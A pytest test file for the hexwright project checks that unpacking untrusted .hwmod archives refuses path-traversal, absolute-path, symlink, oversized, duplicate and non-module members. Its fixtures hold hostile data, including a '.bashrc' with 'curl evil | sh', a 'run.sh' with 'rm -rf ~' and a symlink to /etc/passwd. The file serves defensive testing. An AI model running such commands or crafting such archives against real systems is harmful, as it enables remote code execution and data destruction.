"""A .hwmod from a stranger is data: unsafe members are refused before anything is written."""

import io
import stat
import zipfile

import pytest
from builders import small_module

from hexwright.runtime.storage import ModuleError, UnsafeArchiveError, archive, files_from_module, load_module, unpack


def make_pack(path, extra: dict[str, bytes], link: str | None = None):
    files = files_from_module(small_module())
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in {**files, **extra}.items():
            zf.writestr(name, data)
        if link:
            info = zipfile.ZipInfo(link)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
    return path


def test_dotdot_member_is_refused_and_nothing_is_written(tmp_path):
    pack = make_pack(tmp_path / "evil.hwmod", {"../escaped.txt": b"pwned", "images/../../x.png": b"x"})
    target = tmp_path / "out" / "inner"
    with pytest.raises(UnsafeArchiveError) as caught:
        unpack(pack, target)
    assert "'..'" in str(caught.value)
    assert not (tmp_path / "out").exists()
    assert not (tmp_path / "out" / "escaped.txt").exists()
    assert not (tmp_path / "escaped.txt").exists()


def test_absolute_member_is_refused(tmp_path):
    pack = make_pack(tmp_path / "evil.hwmod", {"/tmp/abs.txt": b"x"})
    with pytest.raises(UnsafeArchiveError, match="absolute path"):
        unpack(pack, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_link_member_is_refused(tmp_path):
    pack = make_pack(tmp_path / "evil.hwmod", {}, link="images/link.png")
    with pytest.raises(UnsafeArchiveError, match="links are not allowed"):
        load_module(pack)


def test_oversized_member_is_refused_from_its_header(tmp_path, monkeypatch):
    monkeypatch.setattr(archive, "MAX_MEMBER_BYTES", 1000)
    pack = make_pack(tmp_path / "big.hwmod", {"images/big.png": b"0" * 5000})
    with pytest.raises(UnsafeArchiveError, match="member larger than 1000 bytes"):
        unpack(pack, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_total_size_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(archive, "MAX_TOTAL_BYTES", 3000)
    pack = make_pack(tmp_path / "big.hwmod", {"images/a.png": b"0" * 2000, "images/b.png": b"0" * 2000})
    with pytest.raises(UnsafeArchiveError, match="unpacked"):
        load_module(pack)


def test_not_a_zip(tmp_path):
    (tmp_path / "x.hwmod").write_bytes(b"hello")
    with pytest.raises(UnsafeArchiveError, match="not a zip file"):
        load_module(tmp_path / "x.hwmod")


def test_invalid_module_inside_pack_is_not_unpacked(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("module.json", '{"id": "x"}')
    (tmp_path / "bad.hwmod").write_bytes(buffer.getvalue())
    with pytest.raises(Exception) as caught:
        unpack(tmp_path / "bad.hwmod", tmp_path / "out")
    assert "map.json: file is missing" in str(caught.value)
    assert not (tmp_path / "out").exists()


def test_member_written_twice_is_refused(tmp_path):
    pack = make_pack(tmp_path / "twice.hwmod", {})
    with zipfile.ZipFile(pack, "a") as zf, pytest.warns(UserWarning):
        zf.writestr("module.json", '{"id": "other", "title": "Other"}')
    with pytest.raises(UnsafeArchiveError, match="module.json: member appears twice"):
        unpack(pack, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_member_that_is_not_a_module_file_is_refused(tmp_path):
    pack = make_pack(tmp_path / "extra.hwmod", {".bashrc": b"curl evil | sh", "run.sh": b"rm -rf ~"})
    with pytest.raises(UnsafeArchiveError, match="not a module file"):
        unpack(pack, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_unpack_into_a_folder_with_files_is_refused_and_changes_nothing(tmp_path):
    pack = make_pack(tmp_path / "m.hwmod", {})
    target = tmp_path / "other"
    target.mkdir()
    (target / "module.json").write_text("mine")
    (target / "scenarios").mkdir()
    (target / "scenarios" / "old.json").write_text("{}")
    with pytest.raises(ModuleError, match="not empty"):
        unpack(pack, target)
    assert (target / "module.json").read_text() == "mine"
    assert sorted(p.name for p in target.rglob("*")) == ["module.json", "old.json", "scenarios"]


def test_unpack_into_an_empty_folder_is_fine(tmp_path):
    (tmp_path / "empty").mkdir()
    assert "module.json" in unpack(make_pack(tmp_path / "m.hwmod", {}), tmp_path / "empty")


def test_unpack_that_fails_part_way_leaves_no_half_written_folder(tmp_path, monkeypatch):
    pack = make_pack(tmp_path / "m.hwmod", {})
    real_write = archive.atomic_write_bytes
    written = []

    def disk_full_on_the_third(path, data):
        if len(written) == 2:
            raise OSError(28, "No space left on device", str(path))
        written.append(path)
        real_write(path, data)

    monkeypatch.setattr(archive, "atomic_write_bytes", disk_full_on_the_third)
    with pytest.raises(OSError, match="No space left"):
        unpack(pack, tmp_path / "out")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.hwmod"]
